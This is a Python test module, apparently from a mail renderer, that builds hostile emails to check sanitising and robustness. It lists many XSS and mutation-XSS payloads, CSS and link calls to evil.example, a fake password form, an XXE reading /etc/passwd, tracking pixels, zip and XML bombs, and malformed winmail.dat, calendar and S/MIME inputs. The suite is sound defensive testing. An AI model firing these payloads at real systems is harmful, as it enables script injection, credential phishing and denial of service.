"""Markup, pictures, files, archives, winmail.dat, calendars, sealed mail."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import Any

from tests.hostile.making import (
    FROM,
    HELLO,
    Hostile,
    attached,
    der,
    family,
    html,
    mixed,
    properties,
    signed_blob,
    tnef,
)

_PAYLOADS = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x></sCrIpT>
<script/x>alert(1)</script/x>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src=x onerror
=alert(1)>
<img/src=x/onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><img src=x onerror=alert(1)></template>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<applet code=x></applet>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=//evil.example/x>
<style>@import url(//evil.example/x);body{background:url(//evil.example/y)}</style>
<p style="background:url(//evil.example/x)">x</p>
<p style="background:u\\72l(//evil.example/x)">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="behavior:url(x.htc)">x</p>
<p style="-moz-binding:url(//evil.example/x)">x</p>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">Your session has ended</div>
<div style="position:absolute;inset:0">x</div>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="file:///etc/passwd">x</a>
<a href="//evil.example">x</a>
<a href="/admin/delete">x</a>
<a target=_top href=https://evil.example>https://bank.example</a>
<form action=https://evil.example><input name=password type=password><button>Sign in</button></form>
<input onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus></textarea>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)><summary>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<table background=javascript:alert(1)><tr><td background=//evil.example/x>x</td></tr></table>
<img src="javascript:alert(1)">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src=x:x onerror=alert(1) name=getElementById>
<img name=cookie><form name=body><input id=attributes></form>
<a id=location><a id=location name=href href=https://evil.example>x</a>
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;
<xss style="behavior:url(x)">x</xss>
<title><img src=x onerror=alert(1)></title>
<plaintext>
<xmp><img src=x onerror=alert(1)></xmp>
<p id="</p><img src=x onerror=alert(1)>">x</p>
<img alt="<x" title="/><img src=x onerror=alert(1)>">
<img src="x` `<script>alert(1)</script>"` `>
<a href="https://evil.example" onclick="alert(1)" style="color:red" class="gmail_quote x" id="main">x</a>
"""


def markup() -> Iterator[Hostile]:
    swallowing = (
        "<plaintext>",
        "<noscript><p",
        "<select>",
        "<svg></p>",
        "<math>",
        "<form><math>",
        "<textarea",
        "<title>",
    )
    for place, payload in enumerate(_PAYLOADS.strip("\n").replace("onerror\n=", "onerror\v=").split("\n")):
        source = payload.replace("onerror\v=", "onerror\n=")
        text = ["hello"] if source.startswith(swallowing) else ["hello", "goodbye"]
        yield Hostile(
            f"markup {place} {source[:40]}", "19 markup", html(source.encode()),
            {"text": text, "absent": ["<script", "javascript:", "<form", "<input", "<style", "<iframe", "position:"]},
        )  # fmt: skip


def tracking() -> Iterator[Hostile]:
    pixel = b'<img src="https://evil.example/t.gif" width=1 height=1>'
    cid = b'<img src="cid:pic@x"><img src="logo.png"><img src="https://x.example/a.png">'
    related = mixed(
        b"Content-Type: text/html\r\nContent-Location: https://x.example/\r\n\r\n<p>hello</p>" + cid,
        attached(b"inline", b"\x89PNG one", b"image/png\r\nContent-ID: <pic@x>"),
        attached(b"inline; filename=logo.png", b"\x89PNG two", b"image/png"),
        attached(b"inline", b"\x89PNG three", b"image/png\r\nContent-Location: a.png"),
        kind=b"related",
    )
    yield Hostile("a pixel that tells", "20 tracking", html(pixel), {"text": ["hello"]})
    yield Hostile("pictures by every name", "20 tracking", related, {
        "html": ['src="cid:pic@x"', 'src="cid:picture-1@location"', 'src="cid:picture-2@location"'],
        "absent": ["https://x.example/a.png"],
    })  # fmt: skip


def contents() -> Iterator[Hostile]:
    """Files that would run if they were opened in our place: kept as they are, never looked into."""
    for name, kind, content in (
        ("a.svg", b"image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("a.html", b"text/html", b"<script>alert(1)</script>"),
        (
            "a.xhtml",
            b"application/xhtml+xml",
            b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
        ),
        ("a.jpg", b"image/jpeg", b"<script>alert(1)</script>"),
        ("a.pdf", b"application/pdf", b"%PDF-1.7 /JS (app.alert(1))"),
        ("a.xml", b"text/xml", b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><l>&b;</l>'),
        ("a.mht", b"multipart/related", b"--x"),
        ("a.url", b"text/plain", b"[InternetShortcut]\nURL=file:///etc/passwd"),
    ):
        raw = mixed(HELLO, attached(b"attachment; filename=" + name.encode(), content, kind))
        yield Hostile(
            f"file {name}", "21 files that run", raw, {"text": ["hello"], "files": [name], "absent": ["alert(1)"]}
        )


def archives() -> Iterator[Hostile]:
    zeros = bytes(5_000_000)
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(20):
            archive.writestr(zipfile.ZipInfo(f"../{number}"), zeros, zipfile.ZIP_DEFLATED)
    bombs = {
        "bomb.zip": (b"application/zip", packed.getvalue()),
        "bomb.gz": (b"application/gzip", gzip.compress(zeros, mtime=0)),
        "bomb.png": (b"image/png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xff\xff\xff\xff\xff\xff\xff\x08\x06\0\0\0"),
        "laughs.xml": (b"text/xml", b"<!DOCTYPE l [" + b"".join(
            b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10)) + b"]><l>&l9;</l>"),
    }  # fmt: skip
    for name, (kind, content) in bombs.items():
        raw = mixed(HELLO, attached(b"attachment; filename=" + name.encode(), content, kind))
        yield Hostile(name, "23 archives", raw, {"text": ["hello"], "files": [name], "contents": [content]})


def winmail() -> Iterator[Hostile]:
    begins = (2, 0x00069002, bytes(14))
    title, data = (2, 0x00018010, b"letter.txt\0"), (2, 0x0006800F, b"dear all")
    good = tnef((1, 0x0002800C, b"hello from Outlook\0"), begins, title, data)
    rich = properties((0x102, 0x1009, _lzfu(b"{\\rtf1\\ansi\\ansicpg1252 hello Gr\\'fc\\'dfe\\par }")))
    named = properties((0x1F, 0x3707, "Größe.txt\0".encode("utf-16-le")), (0x102, 0x3701, b"content"))
    inner = good
    for _ in range(30):
        inner = tnef(
            begins,
            (2, 0x00069005, properties((0x0D, 0x3701, bytes.fromhex("0703020000000000c000000000000046") + inner))),
        )
    streams: dict[str, tuple[bytes, dict[str, Any]]] = {
        "winmail.dat with a file": (good, {"text": ["hello from Outlook"], "files": ["letter.txt"], "contents": [b"dear all"]}),
        "winmail.dat with rich text": (tnef((1, 0x00069003, rich)), {"text": ["hello Grüße"]}),
        "winmail.dat with a long name": (tnef(begins, title, (2, 0x00069005, named)), {"files": ["Größe.txt"], "contents": [b"content"]}),
        "winmail.dat with HTML": (
            tnef((1, 0x00069003, properties((0x102, 0x1013, b"<p>hello</p><script>alert(1)</script>")))),
            {"text": ["hello"], "absent": ["alert"]}),
        "winmail.dat cut off": (good[:-20], {"problem": "winmail.dat", "text": ["hello from Outlook"]}),
        "winmail.dat of 30 levels": (inner, {"problem": "winmail.dat"}),
        "winmail.dat of 100,000 files": (tnef(*[begins, title] * 50_000), {"problem": "winmail.dat"}),
        "winmail.dat that lies of its length": (good[:6] + struct.pack("<BII", 1, 0x0002800C, 0xFFFFFFFF) + b"hello", {}),
        "winmail.dat of 4,000,000,000 properties": (tnef((1, 0x00069003, b"\xff\xff\xff\xff" + bytes(100))), {}),
        "winmail.dat of endless values": (tnef((1, 0x00069003, struct.pack("<IHHI", 1, 0x101E, 0x1000, 0xFFFFFFFF) + bytes(100_000))), {}),
        "winmail.dat of only a signature": (good[:6], {}),
        "winmail.dat with a path": (tnef(begins, (2, 0x00018010, b"..\\..\\x.exe\0"), data), {"files": ["x.exe"]}),
        "winmail.dat whose text unpacks to gigabytes": (
            tnef((1, 0x00069003, properties((0x102, 0x1009, struct.pack("<III4s", 999, 0xFFFFFFFF, 0, b"LZFu")[0:4] +
                                             struct.pack("<I", 0xFFFFFFFF) + b"LZFu" + bytes(4) + b"\xff\x00\x0f" * 200_000)))), {}),
        "no winmail.dat at all": (b"not TNEF", {"files": ["winmail.dat"]}),
    }  # fmt: skip
    for name, (stream, expect) in streams.items():
        part = attached(b"attachment; filename=winmail.dat", stream, b"application/ms-tnef")
        yield Hostile(name, "23 TNEF", mixed(b"Content-Type: text/plain\r\n\r\n", part), expect)


def _lzfu(rtf: bytes) -> bytes:
    """Compressed RTF of literals only (MS-OXRTFCP)."""
    body = b"".join(b"\0" + rtf[place : place + 8] for place in range(0, len(rtf), 8))
    return struct.pack("<II4sI", len(body) + 12, len(rtf), b"LZFu", 0) + body


def calendars() -> Iterator[Hostile]:
    def event(lines: bytes) -> bytes:
        calendar = (
            b"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\n" + lines + b"\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
        )
        return mixed(b"Content-Type: text/calendar; charset=utf-8; method=REQUEST\r\n\r\n" + calendar)

    good = (
        b"SUMMARY:Visit\\, floor 3\r\nDTSTART;TZID=Europe/Zurich:20260601T100000\r\nDTEND;TZID=Europe/Zurich:20260601T113000\r\n"
        b'LOCATION:Basel\r\nORGANIZER;CN="Doe; Jane":mailto:jane@x.example\r\nATTENDEE;PARTSTAT=ACCEPTED;CN=Ben:mailto:b@x.example'
    )
    yield from family(
        "19 calendars",
        {
            "an invitation": (event(good), {"text": [
                "Visit, floor 3", "2026-06-01 10:00 – 11:30 Europe/Zurich", "Basel", "★ Doe; Jane <jane@x.example>", "✓ Ben <b@x.example>"]}),
            "an invitation cut off": (event(good)[:-120], {"text": ["Visit, floor 3"]}),
            "markup in an invitation": (event(b"SUMMARY:<script>alert(1)</script>"), {"absent": ["<script>alert(1)</script></pre>"]}),
            "100,000 attendees": (event(b"SUMMARY:x\r\n" + b"ATTENDEE:mailto:a@x.example\r\n" * 100_000), {"text": ["x"]}),
            "100,000 levels": (event(b"SUMMARY:deep\r\n" + b"BEGIN:VALARM\r\n" * 100_000), {"text": ["deep"]}),
            "a zone that never ends": (event(b"SUMMARY:zone\r\nBEGIN:STANDARD\r\nRRULE:FREQ=SECONDLY\r\nEND:STANDARD"), {"text": ["zone"]}),
            "absurd times": (event(b"SUMMARY:time\r\nDTSTART:99999999T999999Z\r\nDURATION:P9999W"), {"text": ["time"]}),
            "a duration past the end of time": (event(b"SUMMARY:time\r\nDTSTART:99991231T100000Z\r\nDURATION:P9999W"), {"text": ["time"]}),
        },
    )  # fmt: skip


def sealed() -> Iterator[Hostile]:
    def blob(
        content: bytes, name: bytes = b"smime.p7m", kind: bytes = b"application/pkcs7-mime; smime-type=signed-data"
    ) -> bytes:
        return FROM + b"Subject: x\r\n" + attached(b"attachment; filename=" + name, content, kind)

    inner = b"Content-Type: text/plain; charset=utf-8\r\n\r\nhello inside"
    deep = inner
    for _ in range(60):
        deep = b"Content-Type: application/pkcs7-mime\r\n\r\n" + signed_blob(deep)
    squeezed = der(4, zlib.compress(bytes(50_000_000), 9))
    compressed = der(0x30, der(6, bytes.fromhex("2a864886f70d0109100109")), der(0xA0, der(0x30, der(2, b"\0"), der(0x30), der(
        0x30, der(6, bytes.fromhex("2a864886f70d010701")), der(0xA0, squeezed)))))  # fmt: skip
    signature = b"Content-Type: application/pgp-signature; name=signature.asc\r\n\r\n-----BEGIN PGP SIGNATURE-----"
    yield from family(
        "23 sealed mail",
        {
            "signed in one blob": (blob(signed_blob(inner)), {"text": ["hello inside"], "seal": "smime-opaque"}),
            "signed, said to be bytes": (blob(signed_blob(inner), kind=b"application/octet-stream"), {"text": ["hello inside"]}),
            "signed and cut off": (blob(signed_blob(inner)[:30]), {"files": ["smime.p7m"]}),
            "signed 60 times": (blob(signed_blob(deep)), {}),
            "signed nothing": (blob(b"0" * 100), {"files": ["smime.p7m"]}),
            "compressed 50 MB": (blob(compressed, b"smime.p7z"), {}),
            "detached": (mixed(HELLO, signature, kind=b"signed"), {"text": ["hello"], "seal": "pgp-signed", "files": ["signature.asc"]}),
            "detached from nothing": (mixed(signature, kind=b"signed"), {}),
            "encrypted": (
                mixed(b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1",
                      b"Content-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----", kind=b"encrypted"),
                {"seal": "pgp-encrypted"}),
        },
    )  # fmt: skip
